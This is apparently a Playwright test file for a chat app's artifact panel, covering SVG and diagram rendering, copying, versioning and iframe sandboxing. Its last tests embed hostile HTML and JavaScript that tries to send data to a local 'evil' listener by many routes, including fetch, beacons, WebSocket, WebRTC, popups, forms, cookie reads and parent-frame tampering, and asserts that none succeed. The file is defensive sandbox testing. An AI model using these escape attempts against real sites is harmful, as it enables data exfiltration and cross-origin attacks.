"""Artifacts in a real browser: the panel beside the chat, and a frame out of which nothing gets."""

from __future__ import annotations

import re
import socket
import socketserver
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, expect

from chatserver.domain.access import Account
from tests.browser.stage import Site, ask, ask_and_wait, pick, replies

pytestmark = pytest.mark.browser

Visit = Callable[..., Page]
Shoot = Callable[[Page, str], None]
SVG = (
    '```svg title="A tree"\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 60 60"><rect x="27" y="30" width="6"'
    ' height="25" fill="#7a5c3e"/><circle cx="30" cy="22" r="16" fill="#3c8d5a"/></svg>\n```'
)
DIAGRAM = '```mermaid title="A road"\ngraph LR; Oak-->Elm; Elm-->Fir\n```'


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A second origin that counts what it is asked."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            """Nothing is printed."""

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
        server.shutdown()


def test_what_an_answer_made_stands_beside_it(visit: Visit, site: Site, shoot: Shoot) -> None:
    site.actor.answers["Draw a tree."] = f"Here it is.\n\n{SVG}\n\nAnd the way:\n\n{DIAGRAM}"
    page = visit(scheme="dark")
    ask_and_wait(page, "Draw a tree.")
    replies(page).last.get_by_role("link", name="A tree").click()
    panel = page.get_by_role("complementary", name="Panel")
    expect(panel.get_by_role("img", name="A tree")).to_be_visible()
    shoot(page, "artifacts-dark-1440")
    result = Axe().run(page)
    assert result.violations_count == 0, result.generate_report()
    panel.get_by_role("link", name="Source").click()
    expect(panel.locator("pre code")).to_contain_text("<circle")
    panel.get_by_role("button", name="Ask for a change").click()
    expect(page.get_by_role("textbox", name="Message")).to_have_value("Please change “A tree”: ")
    panel.get_by_role("link", name="All artifacts").click()
    panel.get_by_role("link", name="A road").click()
    panel.get_by_role("link", name="Run").click()
    drawn = panel.frame_locator("iframe").locator("svg")
    expect(drawn).to_contain_text("Oak", timeout=20_000)
    shoot(page, "artifacts-diagram-dark-1440")
    panel.get_by_role("link", name="Map").click()
    expect(panel.get_by_role("link", name="Artifacts", exact=True)).to_be_visible()


def test_what_one_does_with_it(visit: Visit, site: Site) -> None:
    site.actor.answers["Draw an oak."] = SVG
    page = visit()
    ask_and_wait(page, "Draw an oak.")
    replies(page).last.get_by_role("link", name="A tree").click()
    panel = page.get_by_role("complementary", name="Panel")
    panel.get_by_role("link", name="Source").click()
    code = panel.locator("pre code")
    expect(code).to_contain_text("<circle")
    panel.get_by_role("button", name="Copy source").click()
    expect(page.locator("#live")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == SVG.partition("\n")[2].removesuffix("\n```")
    with page.expect_download() as download:
        panel.get_by_role("link", name="Download").click()
    assert download.value.suggested_filename == "A-tree.svg"
    panel.get_by_role("button", name="Full screen").click()
    page.wait_for_function("document.fullscreenElement?.matches('[data-stage]')")
    page.evaluate("document.exitFullscreen()")
    page.wait_for_function("!document.fullscreenElement")
    code.select_text()
    panel.get_by_role("button", name="Ask for a change").click()
    box = page.get_by_role("textbox", name="Message")
    expect(box).to_have_value(re.compile("^> <svg xmlns.*</svg>\n\nPlease change “A tree”: $", re.DOTALL))
    expect(box).to_be_focused()
    panel.get_by_text("Edit by hand").click()
    panel.get_by_label("Text").fill('<svg xmlns="http://www.w3.org/2000/svg"><text y="20">oak</text></svg>')
    panel.get_by_role("button", name="Save as a version").click()
    expect(panel.get_by_text("2/2")).to_be_visible()
    expect(panel.get_by_text("by hand", exact=True)).to_be_visible()
    panel.get_by_role("link", name="Changes").click()
    expect(panel.locator(".art-diff .plus")).to_contain_text("oak")


def test_what_is_being_written_is_looked_on(visit: Visit, site: Site, shoot: Shoot) -> None:
    drawing = SVG.partition("\n")[2].replace("<rect", "<title>Slow tree</title><rect")
    site.actor.answers["Draw slowly."] = f"```svg\n{drawing}\n\nThere it is."
    page = visit(scheme="dark")
    pick(page, "Waiter")
    ask(page, "Draw slowly.")
    card = replies(page).last.get_by_role("link", name="Untitled")
    expect(card).to_contain_text("SVG · being written")
    source = replies(page).last.locator("figure.code")
    expect(source).to_be_hidden()
    card.click()
    panel = page.get_by_role("complementary", name="Panel")
    expect(panel.locator("pre code")).to_contain_text("<svg xmlns=")
    shoot(page, "artifacts-growing-dark-1440")
    site.actor.held.set()
    expect(panel.get_by_role("img", name="Slow tree")).to_be_visible()
    done = replies(page).last
    expect(done.get_by_role("link", name="Slow tree")).to_contain_text("SVG · version 1")
    done.get_by_text("Source").click()
    expect(done.locator("figure.code")).to_contain_text("<circle")
    expect(done.locator("figure.code").get_by_role("button", name="Copy code")).to_be_visible()


def test_a_tag_that_is_being_written_has_a_card_too(visit: Visit, site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    page_of = "<!doctype html>\n<h1>Tick</h1>\n\n<p>*tock*</p>\n\n<script>\n  const a = 1\n</script>"
    answer = f'Here:\n<artifact type="text/html" title="A clock">\n{page_of}\n</artifact>\n\nThere it is.'
    site.actor.answers["Wrap a clock."] = answer
    monkeypatch.setattr(site.actor, "holds_at", answer.index("const"))
    page = visit()
    pick(page, "Waiter")
    ask(page, "Wrap a clock.")
    reply = replies(page).last
    card = reply.get_by_role("link", name="A clock")
    expect(card).to_contain_text("HTML · being written")
    text = reply.locator("[data-part=text]")
    expect(text.get_by_text("Here:", exact=True)).to_be_visible()
    for hidden in ("<artifact", "tock", "<script>"):
        expect(text.get_by_text(hidden).first).to_be_hidden()
    card.click()
    panel = page.get_by_role("complementary", name="Panel")
    expect(panel.locator("pre code")).to_contain_text("<h1>Tick</h1>")
    expect(panel.locator("pre code")).to_contain_text("<script>")
    expect(panel.locator("pre code")).not_to_contain_text("artifact")
    expect(panel.get_by_role("heading", name="A clock")).to_be_visible()
    site.actor.held.set()
    expect(panel.get_by_role("link", name="Run")).to_be_visible()
    expect(reply.get_by_role("link", name="A clock")).to_contain_text("HTML · version 1")
    expect(reply.get_by_text("There it is.")).to_be_visible()
    expect(reply.get_by_text("<artifact")).to_have_count(0)


def test_a_phone_shows_them_too(visit: Visit, site: Site, shoot: Shoot) -> None:
    site.actor.answers["Draw a small tree."] = SVG
    page = visit(width=390)
    ask_and_wait(page, "Draw a small tree.")
    replies(page).last.get_by_role("link", name="A tree").click()
    panel = page.get_by_role("complementary", name="Panel")
    expect(panel.get_by_role("img", name="A tree")).to_be_visible()
    shoot(page, "artifacts-light-390")
    result = Axe().run(page)
    assert result.violations_count == 0, result.generate_report()


def test_the_browser_itself_opens_no_connection_from_the_frame(
    browser: Browser, site: Site, account: Account, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without the script that takes WebRTC away first: the header of the frame shuts it, too."""
    monkeypatch.setattr("chatserver_artifacts.frame.GUARD", "")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as evil:
        evil.bind(("127.0.0.1", 0))
        evil.setblocking(False)
        server = f"stun:127.0.0.1:{evil.getsockname()[1]}"
        script = (
            f"const line = new RTCPeerConnection({{ iceServers: [{{ urls: '{server}' }}] }});"
            "line.createDataChannel('x'); line.onicegatheringstatechange = () => {"
            " if (line.iceGatheringState === 'complete') document.body.dataset.done = 'yes' };"
            "line.createOffer().then((offer) => line.setLocalDescription(offer))"
        )
        site.actor.answers["Call home."] = f'```html title="Caller"\n<body>x<script>{script}</script>\n```'
        context = browser.new_context()
        context.add_cookies([site.cookie(account)])  # type: ignore[list-item]
        page = context.new_page()
        page.goto(site.url)
        ask_and_wait(page, "Call home.")
        replies(page).last.get_by_role("link", name="Caller").click()
        panel = page.get_by_role("complementary", name="Panel")
        panel.get_by_role("link", name="Run").click()
        expect(panel.frame_locator("iframe").locator("body")).to_have_attribute("data-done", "yes")
        with pytest.raises(BlockingIOError):
            evil.recv(1)
        context.close()


def test_what_strangers_may_have_written_is_first_shown_without_scripts(
    browser: Browser, site: Site, account: Account, listener: tuple[str, list[str]]
) -> None:
    """Below a file: nothing runs by itself, nothing without scripts, and on the other button without a network."""
    evil, seen = listener
    told = "document.body.dataset"
    script = f"{told}.ran = 'yes'; fetch('{evil}/fetch').catch(() => {{ {told}.net = 'none' }})"
    markup = (
        "<!doctype html><title>Guest</title><body data-ran='no'>"
        f"<img src=data:,x onerror=\"document.body.dataset.ran = 'yes'\"><script>{script}</script>"
        f"<a href='{evil}/link'>away</a><p>The last words</p>"
    )
    site.actor.answers["What is in it?"] = f'```html title="A guest"\n{markup}\n```'
    context = browser.new_context()
    context.add_cookies([site.cookie(account)])  # type: ignore[list-item]
    page = context.new_page()
    page.goto(site.url)
    page.locator("#pick-files").set_input_files({"name": "a.txt", "mimeType": "text/plain", "buffer": b"hers"})
    expect(page.get_by_role("list", name="Attached files").get_by_text("a.txt")).to_be_visible()
    ask_and_wait(page, "Read it.")
    ask_and_wait(page, "What is in it?")
    frames: list[str] = []
    page.on("request", lambda request: frames.append(request.url) if "/artifacts/frame/" in request.url else None)
    replies(page).last.get_by_role("link", name="A guest").click()
    panel = page.get_by_role("complementary", name="Panel")
    expect(panel).to_contain_text("nobody here vouches for")
    expect(panel.locator("iframe")).to_have_count(0)
    assert frames == [], "nothing is asked for before a button is pressed"
    panel.get_by_role("link", name="Show without scripts").click()
    body = panel.frame_locator("iframe").locator("body")
    expect(body).to_contain_text("The last words")
    assert body.get_attribute("data-ran") == "no"
    panel.get_by_role("link", name="Preview").click()
    expect(panel.locator("iframe")).to_have_count(0)
    panel.get_by_role("link", name="Run all the same").click()
    expect(body).to_contain_text("The last words")
    expect(body).to_have_attribute("data-ran", "yes")
    expect(body).to_have_attribute("data-net", "none")
    assert seen == [] and len(frames) == 2
    context.close()


def test_nothing_gets_out_of_the_frame(
    browser: Browser, site: Site, account: Account, listener: tuple[str, list[str]]
) -> None:
    """What the browser refuses it also complains of, so this page's complaints are not counted."""
    evil, seen = listener
    attempts = f"""
const told = (name, run) => {{ try {{ Promise.resolve(run()).catch(() => {{}}) }} catch {{}} done.push(name) }}
const done = []
told("fetch", () => fetch("{evil}/fetch"))
told("xhr", () => {{ const x = new XMLHttpRequest(); x.open("GET", "{evil}/xhr"); x.send() }})
told("beacon", () => navigator.sendBeacon("{evil}/beacon", "x"))
told("img", () => {{ new Image().src = "{evil}/img" }})
told("socket", () => new WebSocket("{evil.replace("http", "ws")}/socket"))
told("events", () => new EventSource("{evil}/events"))
told("worker", () => new Worker("{evil}/worker.js"))
told("blobworker", () => new Worker(URL.createObjectURL(new Blob(["fetch('{evil}/blobworker')"]))))
told("import", () => import("{evil}/import.js"))
told("popup", () => window.open("{evil}/popup"))
told("top", () => {{ top.location = "{evil}/top" }})
told("parent", () => {{ parent.document.title = "pwned" }})
told("cookie", () => {{ document.title = document.cookie }})
told("storage", () => localStorage.setItem("a", "b"))
const add = (name, given, where = document.body) => where.append(Object.assign(document.createElement(name), given))
told("frame", () => add("iframe", {{ src: "{evil}/frame" }}))
const inner = "<iframe srcdoc='<img src={evil}/srcdoc>'></iframe>"
told("srcdoc", () => document.body.insertAdjacentHTML("beforeend", inner))
told("link", () => add("link", {{ rel: "stylesheet", href: "{evil}/link.css" }}, document.head))
told("prefetch", () => add("link", {{ rel: "prefetch", href: "{evil}/prefetch" }}, document.head))
told("form", () => {{ add("form", {{ action: "{evil}/form" }}); document.forms[0].submit() }})
told("rtc", () => {{ document.body.dataset.rtc = String(typeof RTCPeerConnection) }})
document.body.dataset.done = done.length
setTimeout(() => {{ location = "{evil}/navigate" }}, 300)
"""
    markup = (
        f'<!doctype html><title>Evil</title><style>@import "{evil}/import.css";'
        f"@font-face{{font-family:x;src:url({evil}/font)}}body{{background:url({evil}/css);font-family:x}}</style>"
        f"<body>text<img src={evil}/tag><video src={evil}/video></video>"
        f'<object data="{evil}/object"></object><embed src="{evil}/embed"><script src="{evil}/script.js"></script>'
        f"<script>{attempts}</script>"
    )
    site.actor.answers["Be evil."] = f'```html title="Evil"\n{markup}\n```'
    context = browser.new_context()
    context.add_cookies([site.cookie(account)])  # type: ignore[list-item]
    page = context.new_page()
    page.goto(site.url)
    ask_and_wait(page, "Be evil.")
    title = page.title()
    replies(page).last.get_by_role("link", name="Evil").click()
    panel = page.get_by_role("complementary", name="Panel")
    page.evaluate("document.cookie = 'seen=1'")
    with page.expect_response(lambda response: "/x/artifacts/frame/" in response.url):
        panel.get_by_role("link", name="Run").click()
    body = panel.frame_locator("iframe").locator("body")
    expect(body).to_have_attribute("data-done", "20")
    assert body.get_attribute("data-rtc") == "undefined"
    page.wait_for_timeout(1_500)  # for what is asked late, and for the way out that was tried last
    assert seen == []
    assert page.title() == title and "pwned" not in page.title()
    assert len(context.pages) == 1
    context.close()
